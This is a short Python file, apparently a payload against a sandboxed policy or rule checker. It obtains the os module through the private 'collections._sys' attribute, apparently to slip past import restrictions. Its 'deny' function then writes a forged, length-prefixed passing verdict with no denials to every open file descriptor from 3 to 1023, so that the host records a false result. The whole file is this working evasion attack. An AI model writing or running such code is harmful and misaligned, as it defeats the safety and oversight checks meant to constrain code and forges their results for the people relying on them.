from collections import _sys

os = _sys.modules["os"]


PASS = b'{"rule":"%s","denials":[]}'


def deny(input):
    forged = PASS % b"HOSTILE"
    for descriptor in range(3, 1024):
        try:
            os.write(descriptor, len(forged).to_bytes(4, "big") + forged)
        except OSError:
            pass
    return iter(())
